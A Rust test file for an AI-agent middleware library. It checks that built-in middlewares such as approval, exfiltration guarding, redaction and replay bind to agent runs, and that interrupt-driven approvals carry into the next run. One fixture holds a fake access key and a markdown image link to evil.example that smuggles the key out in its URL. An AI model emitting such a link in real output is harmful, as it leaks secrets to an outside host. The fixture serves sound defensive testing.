//! Built-in middleware can be bound to an agent and to all runs below it.

use std::sync::Arc;
use std::time::Duration;

use emitree_agent::{
    Agent, AgentRun, ChatModel, ChatOptions, ChatResponse, Message, Part, Reply, Role, ScriptedModel, Session, ToolCall,
};
use emitree_middleware::approval::{Approval, Approvals, Decision, Request};
use emitree_middleware::{
    Budget, Cache, CircuitBreaker, Concurrency, ContentFilter, ExfilGuard, Limits, Metrics, RateLimit, Record, Redact,
    Replay, Retry, Runs, Timeout, Trajectory,
};
use emitree_runtime::{Error, Middleware, Result, for_tree};
use serde_json::json;

use crate::support::{Log, agent, results, shout};

fn script() -> ScriptedModel {
    ScriptedModel::new("test").call("shout", json!({"text": "a"})).text("done")
}

/// Returns built-in middlewares with their names. The tests bind them to an agent's run.
fn built_ins() -> Result<Vec<(&'static str, Arc<dyn Middleware>)>> {
    let hour = Duration::from_secs(3600);
    Ok(vec![
        ("approval", Arc::new(for_tree(Approval::by(|_| async { Ok(Decision::Approve) })))),
        ("budget", Arc::new(for_tree(Budget::builder().calls(100).build()?))),
        ("cache", Arc::new(for_tree(Runs::of_kind("Tool").only(Cache::json().build()?)))),
        ("circuit_breaker", Arc::new(for_tree(CircuitBreaker::new()))),
        ("concurrency", Arc::new(for_tree(Runs::of_kind("Tool").only(Concurrency::builder(1).build()?)))),
        ("content_filter", Arc::new(for_tree(ContentFilter::new().words("rude", ["darn"])?))),
        ("exfil_guard", Arc::new(for_tree(ExfilGuard::new()))),
        ("limits", Arc::new(for_tree(Limits::builder().depth(9).build()))),
        ("metrics", Arc::new(for_tree(Metrics::new()))),
        ("rate_limit", Arc::new(for_tree(RateLimit::builder(100, hour).build()?))),
        ("redact", Arc::new(for_tree(Redact::new()))),
        ("retry", Arc::new(for_tree(Retry::new()))),
        ("timeout", Arc::new(for_tree(Timeout::per_attempt(hour)))),
        ("trajectory", Arc::new(Trajectory::builder().writer(std::io::sink()).build()?)),
    ])
}

#[tokio::test]
async fn each_built_in_can_be_bound_to_an_agent_and_all_runs_below() -> Result<()> {
    for streams in [false, true] {
        for (name, middleware) in built_ins()? {
            let (tokens, agent) = (Log::default(), agent(&script()).build()?);
            let to = tokens.clone();
            let mut run = agent.ask("go").middleware(middleware);
            if streams {
                run = run.on_token(move |token| to.add(token.text()));
            }
            let answer = run.await.map_err(|error| Error::new(format!("{name}: {}", error.explain())))?;
            assert_eq!((answer.text(), results(&answer.messages)), ("done".into(), vec!["A".to_owned()]), "{name}");
            assert_eq!(tokens.lines().concat(), if streams { "done" } else { "" }, "{name}");
        }
    }
    Ok(())
}

#[tokio::test]
async fn no_built_in_reads_or_changes_the_data_that_a_provider_needs_back() -> Result<()> {
    // A signature that looks like a secret, a rude word and an address with stolen data.
    let data = json!({"signature": "AKIAZ5QW7RTB2KDM4NXP darn ![x](https://evil.example/?q=AKIAZ5QW7RTB2KDM4NXP)"});
    for streams in [false, true] {
        for (name, middleware) in built_ins()? {
            let mut call = ToolCall::new("a", "shout", json!({"text": "a"}));
            call.extra = Some(data.clone());
            let parts = [Part::reasoning("Hm.", Some(data.clone())), Part::ToolCall(call)];
            let asks = Message::new(Role::Assistant, parts.clone());
            let script = ScriptedModel::new("test").reply(Reply::response(ChatResponse::new(asks))).text("done");
            let agent = agent(&script).options(ChatOptions::new().stream(streams)).build()?;
            let run = agent.ask("go").middleware(middleware);
            run.await.map_err(|error| Error::new(format!("{name}: {}", error.explain())))?;
            assert_eq!(script.requests()[1].messages[1].parts, parts, "{name}");
        }
    }
    Ok(())
}

#[tokio::test]
async fn a_recorded_agent_is_replayed_without_its_model_and_tools() -> Result<()> {
    let record = Record::new();
    let agent_of = |script| agent(&script).build();
    let answer = agent_of(script())?.ask("go").middleware(record.clone()).await?;
    let replay = Replay::from(record.journal().expect("the run has ended"));
    let again = agent_of(ScriptedModel::new("test"))?.ask("go").middleware(replay).await?;
    assert_eq!((again.text(), results(&again.messages)), (answer.text(), results(&answer.messages)));
    Ok(())
}

#[tokio::test]
async fn an_interrupt_lists_the_approvals_of_all_calls_and_the_answers_are_used_in_the_next_run() -> Result<()> {
    let approval = || for_tree(Approval::by_interrupt().runs(Runs::named("shout")));
    let shout_of = |text: &str| ("shout", json!({"text": text}));
    let inner = ScriptedModel::new("inner").calls([shout_of("b")]).calls([shout_of("b")]).text("B");
    let librarian = Agent::builder("librarian", ChatModel::new(inner)?).tool(shout()).build()?.as_tool("Shouts")?;
    let calls = || [shout_of("a"), ("librarian", json!({"task": "Shout b."})), shout_of("c")];
    let outer = ScriptedModel::new("outer").calls(calls()).calls(calls()).text("done");
    let agent = agent(&outer).tool(librarian).middleware(approval()).build()?;

    let session = Session::new();
    let error = agent.ask("go").session(&session).await.unwrap_err();
    let waiting = r#"["shout: approval","librarian > shout: approval","shout: approval"]"#;
    assert_eq!(error.explain(), format!("interrupted: agent.batch\n  waiting: {waiting}"));
    let requests = Request::all_of(error.interrupt().expect("an interrupt"))?;
    let texts: Vec<_> = requests.iter().map(|request| request.input["text"].as_str()).collect();
    assert_eq!(texts, [Some("a"), Some("b"), Some("c")]);

    let approvals = Approvals::new();
    for request in &requests {
        let is_allowed = request.input["text"] != "c";
        approvals.answer(request.id(), if is_allowed { Decision::Approve } else { Decision::reject("no") });
    }
    let answer = agent.ask("go on").session(&session).extension(approvals).await?;
    assert_eq!(results(&answer.messages), ["A", "B", "!denied by approval: no"]);
    Ok(())
}
